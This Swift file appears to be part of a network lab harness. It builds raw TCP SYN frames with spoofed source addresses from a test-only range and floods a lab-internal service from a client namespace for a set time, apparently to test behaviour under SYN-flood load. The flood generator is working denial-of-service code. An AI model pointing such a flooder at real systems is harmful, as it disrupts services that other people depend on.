import CLab
import Glibc
import Model

/// SYNs from addresses that nobody has, as fast as one thread can write them: frames of a raw socket in the client's
/// namespace, to the router.
struct SynFlood {
    /// A frame that is complete but for source address, port, sequence number and checksums.
    private var frame: [UInt8]
    private var state: UInt64

    /// - Parameters:
    ///   - source, destination: MAC addresses, as `aa:bb:cc:dd:ee:ff`.
    init(source: String, destination: String, port: UInt16, seed: UInt64) {
        let bytes = { (text: String) in text.split(separator: ":").compactMap { UInt8($0, radix: 16) } }
        frame = bytes(destination) + bytes(source) + [8, 0]
        frame += [0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0, 0, 0, 0, 0] + LabPlan.virtualAddress.bytes[12...]
        frame += [0, 0, UInt8(port >> 8), UInt8(port & 255)]
        frame += [0, 0, 0, 0, 0, 0, 0, 0, 0x50, 2, 0xff, 0xff, 0, 0, 0, 0]
        state = seed
    }

    /// The next one, from 198.18.0.0/15 (RFC 2544: for tests).
    mutating func next() -> [UInt8] {
        state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
        let word = state >> 16
        let address = 0xc612_0000 | UInt32(word & 0x1_ffff)
        put(address, at: 26)
        let port = UInt16(truncatingIfNeeded: word >> 17) | 1024
        frame[34] = UInt8(port >> 8)
        frame[35] = UInt8(port & 255)
        put(UInt32(truncatingIfNeeded: word >> 8), at: 38)
        frame[24] = 0
        frame[25] = 0
        frame[50] = 0
        frame[51] = 0
        putChecksum(sum(14..<34, 0), at: 24)
        // The pseudo-header (RFC 9293 3.1): addresses, protocol and length.
        putChecksum(sum(26..<54, 6 + 20), at: 50)
        return frame
    }

    private mutating func put(_ word: UInt32, at place: Int) {
        for index in 0..<4 { frame[place + index] = UInt8(truncatingIfNeeded: word >> UInt32(24 - 8 * index)) }
    }

    private mutating func putChecksum(_ sum: UInt32, at place: Int) {
        var sum = sum
        while sum > 0xffff { sum = sum >> 16 + sum & 0xffff }
        let word = ~UInt16(sum)
        frame[place] = UInt8(word >> 8)
        frame[place + 1] = UInt8(word & 255)
    }

    private func sum(_ range: Range<Int>, _ start: UInt32) -> UInt32 {
        stride(from: range.lowerBound, to: range.upperBound, by: 2).reduce(start) {
            $0 + (UInt32(frame[$1]) << 8 | UInt32(frame[$1 + 1]))
        }
    }
}

extension Lab {
    /// Floods the service for so long; returns how many SYNs were sent.
    func floodWithSYNs(seconds: Double, port: UInt16 = LabPlan.port) throws -> Int {
        let own = try macAddress("client", "eth0")
        let router = try macAddress("router", "client")
        return try inNetworkNamespace(plan.namespacePath("client")) {
            let socket = clab_frame_socket("eth0")
            guard socket >= 0 else { throw LabError.system("raw socket", code: -socket) }
            defer { close(socket) }
            var flood = SynFlood(source: own, destination: router, port: port, seed: 5)
            var sent = 0
            let deadline = Deadline(seconds: seconds)
            while !deadline.isOver, !Interrupts.isRaised {
                for _ in 0..<200 {
                    let frame = flood.next()
                    if write(socket, frame, frame.count) == frame.count { sent += 1 }
                }
            }
            return sent
        }
    }

    private func macAddress(_ node: String, _ interface: String) throws -> String {
        let shown = try run(in: node, command: ["ip", "-o", "link", "show", "dev", interface]).output
        let words = shown.split(separator: " ")
        guard let place = words.firstIndex(of: "link/ether"), place + 1 < words.count else {
            throw LabError.failed("\(node) has no \(interface)")
        }
        return String(words[place + 1])
    }
}
